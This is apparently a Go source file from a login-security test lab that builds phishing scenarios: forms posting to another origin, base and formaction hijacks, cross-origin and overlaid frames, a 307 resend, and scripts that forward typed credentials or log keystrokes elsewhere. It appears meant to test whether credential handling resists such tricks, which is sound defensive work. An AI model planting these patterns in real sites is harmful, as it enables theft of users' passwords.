package loginlab

import (
	"encoding/base64"
	"html/template"
	"net/http"
)

// inForms: the page is the site's own, but what is submitted goes elsewhere.
func inForms() []trick {
	return []trick{
		{
			name: "form-action", title: "Form action elsewhere", topology: TopologySingleForm,
			description: "The form of the site's own page posts to another origin.",
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.showPlea(w, r, pleaCredentials, v.lab.options.OtherOrigin+v.path("take"), v.watch(""))
			},
		},
		{
			name: "formaction", title: "Button's formaction elsewhere", topology: TopologySingleForm,
			description: "The form posts to its own origin, but its button's formaction names another one.",
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.record(r, KindPageView, OutcomeOK, "")
				sc := v.plea(pleaCredentials, "", v.path("step"))
				sc.Buttons[0].FormAction, sc.Raw = v.lab.options.OtherOrigin+v.path("take"), v.watch("")
				v.showHostile(w, sc)
			},
		},
		{
			name: "base", title: "Base elsewhere", topology: TopologySingleForm,
			description: "The form's action is a relative address, and a base element makes it one of another origin.",
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				base := tag("base", "href", v.lab.options.OtherOrigin+v.path(""))
				v.showPlea(w, r, pleaCredentials, "take", v.watch("")+base)
			},
		},
		{
			name: "data-form", title: "Form in a data: URL", topology: TopologyFrame,
			description: "The form is in a frame whose address is a data: URL.",
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				page := base64.StdEncoding.EncodeToString([]byte(v.foreignPage()))
				v.showRaw(w, r, v.say("signInHeading"), frame("data:text/html;charset=utf-8;base64,"+page))
			},
		},
		{
			name: "sandboxed-form", title: "Form in a sandbox", topology: TopologyFrame,
			description: "The form is in a sandboxed frame, which has no origin of its own.",
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.showRaw(w, r, v.say("signInHeading"), tag("iframe", "sandbox", "allow-scripts allow-forms", "width", "480", "height", "620",
					"srcdoc", v.foreignPage())+"</iframe>")
			},
		},
	}
}

// inFrames: a frame of another origin has the field.
func inFrames() []trick {
	return []trick{
		{
			name: "split-frame", title: "Password in a frame from elsewhere", topology: TopologyCrossFrame,
			description: "The user name is asked for by the site, the password by a frame of another origin below it.",
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.showPlea(w, r, pleaIdentifier, v.path("step"), frame(v.lure(pleaPassword, "")))
			},
			taken: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.record(r, KindIdentifierSubmit, OutcomeOK, v.takenUser(r))
				v.leadTo(w, r, v.path("login"))
			},
		},
		{
			name: "nested-frame", title: "Frame in a frame", topology: TopologyCrossFrame,
			description: "A frame of the site has a frame of another origin in it, which has the form.",
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.showRaw(w, r, v.say("signInHeading"), frame(v.path("inner")))
			},
		},
		{
			name: "overlay-frame", title: "Frame over the password", topology: TopologySingleForm, passwordFirst: true,
			description: "A field in a frame of another origin lies exactly over the site's own password field, which works. Who types into " +
				"the site's field by its element is right, who clicks and types is not.",
			alsoRight: []Expectation{ExpectLoggedIn},
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.showPlea(w, r, pleaCredentials, v.path("step"), tag("iframe", "data-cover", v.fieldName(keyPassword, ""), "src", v.lure(pleaBare, ""))+"</iframe>")
			},
			taken: (*variant).takeAndLogIn,
		},
	}
}

// passingOn: the site's own page sends on what is typed there, or what it was sent. It looks right until it is too late.
func passingOn() []trick {
	scripted := func(attribute string) func(*variant, http.ResponseWriter, *http.Request) {
		return func(v *variant, w http.ResponseWriter, r *http.Request) {
			v.showPlea(w, r, pleaCredentials, v.path("step"), tag("div", attribute, v.lab.options.OtherOrigin+v.path("take")))
		}
	}
	refused := []Expectation{ExpectUnsupported, ExpectSite, ExpectCredential}
	return []trick{
		{
			name: "submit-swap", title: "Action swapped on submit", topology: TopologySingleForm, passwordFirst: true, passesOn: true,
			description: "A script of the site's own page changes the form's action to another origin when it is submitted.",
			alsoRight:   refused, show: scripted("data-submit-swap"), taken: (*variant).takeAndRefuse,
		},
		{
			name: "fetch-elsewhere", title: "Script sends elsewhere", topology: TopologyFormless, passwordFirst: true, passesOn: true,
			description: "There is no form; a script of the site's own page sends the fields to another origin.",
			alsoRight:   refused, show: scripted("data-fetch-elsewhere"), taken: (*variant).takeAndRefuse,
		},
		{
			name: "keylogger", title: "Script listens", topology: TopologySingleForm, passwordFirst: true, passesOn: true,
			description: "The login works, but a script sends every input to another origin.",
			alsoRight:   []Expectation{ExpectLoggedIn},
			show: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.showPlea(w, r, pleaCredentials, v.path("step"), v.watch(v.lab.options.OtherOrigin))
			},
			taken: (*variant).takeAndLogIn,
		},
		{
			name: "resent", title: "Submit sent on", topology: TopologySingleForm, passwordFirst: true, passesOn: true,
			description: "The site answers the submit with 307, so that the browser sends it once more, to another origin.",
			alsoRight:   refused, show: showOwn(pleaCredentials),
			taken: func(v *variant, w http.ResponseWriter, r *http.Request) {
				v.takenPassword(r)
				http.Redirect(w, r, v.lab.options.OtherOrigin+v.path("take"), http.StatusTemporaryRedirect)
			},
		},
	}
}

// frame is an iframe as frameworks embed a login.
func frame(address string) template.HTML {
	return tag("iframe", "src", address, "width", "480", "height", "620", "style", "border:0") + "</iframe>"
}
